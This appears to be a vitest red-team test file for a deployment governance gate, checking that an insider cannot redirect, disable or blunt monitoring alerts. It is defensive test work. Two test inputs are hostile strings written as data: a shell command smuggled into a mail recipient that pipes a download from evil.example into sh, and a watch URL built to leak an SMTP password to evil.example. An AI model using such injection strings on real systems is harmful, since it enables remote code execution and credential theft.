/**
 * Red team: an admin with the repository and the deploy key, but no vote, tries to silence or
 * misuse the alerts. Each row is the attack as the insider would make it, and the finding the
 * gate (or the spec) must report, with its reason.
 */
import { describe, expect, it } from "vitest";
import { coop } from "../../helpers/cli";

interface GateJson {
  passed: boolean;
  violations: Array<{ policy: string; urn?: string; message: string; level: string }>;
}

async function gate(set: string): Promise<{ code: number; doc?: GateJson; stderr: string }> {
  const r = await coop(["gate", "--stack", "example", "--json", "--set", set]);
  return { code: r.code, doc: r.code === 2 ? undefined : (JSON.parse(r.stdout) as GateJson), stderr: r.stdout + r.stderr };
}
const refused = (doc: GateJson | undefined) =>
  (doc?.violations ?? []).filter((v) => v.level === "mandatory").map((v) => `${v.policy} ${(v.urn ?? "").split("::").pop()}`);

describe("red team: silencing or redirecting the alerts without a vote", () => {
  it("redirecting every alert to the attacker's own address is an unapproved change of Gatus and of the host's script", async () => {
    const r = await gate("alerts.recipients=[mallory@evil.example]");
    expect(r.code).toBe(1);
    expect(refused(r.doc).sort()).toEqual([
      "governance-resource-matches-lock alerts-files",
      "governance-resource-matches-lock alerts-gatus",
    ]);
    // The reason names what changed: the recipients in the rendered files.
    expect(r.doc?.violations.map((v) => v.message).join("\n")).toContain("mallory@evil.example");
  });

  it("switching the alerts off (before a quiet change) deletes approved resources: refused, as is the backup unit's lost OnFailure=", async () => {
    const r = await gate("alerts.enabled=false");
    expect(r.code).toBe(1);
    expect(refused(r.doc)).toEqual(
      expect.arrayContaining([
        "governance-resource-matches-lock backup-files",
        expect.stringMatching(/^governance-stack-no-unapproved-deletions/),
      ]),
    );
  });

  it("raising a threshold until nothing ever alerts is a change of the check script, refused", async () => {
    const r = await gate("alerts.thresholds.dataVolumePercent=99");
    expect(r.code).toBe(1);
    expect(refused(r.doc)).toEqual(["governance-resource-matches-lock alerts-files"]);
    expect(r.doc?.violations[0].message).toContain("DATA_PERCENT=99");
  });

  it("a threshold beyond what can alert at all (a full disk never passes 100%) is refused by the spec itself", async () => {
    const r = await gate("alerts.thresholds.dataVolumePercent=100");
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("alerts.thresholds.dataVolumePercent");
  });

  it("shell smuggled into a recipient never reaches a script: the spec refuses it as no mail address", async () => {
    const r = await gate("alerts.recipients=[\"x@y.example'; curl evil.example | sh; '\"]");
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("expected a mail address");
  });

  it("a watched address carrying a Gatus variable (to leak the SMTP password to another host) is refused by the spec", async () => {
    const r = await gate('alerts.watch=["https://evil.example/?pw=${COOP_SMTP_PASSWORD}"]');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/alerts\.watch\[0\]: expected an https:\/\/ address/);
  });
});
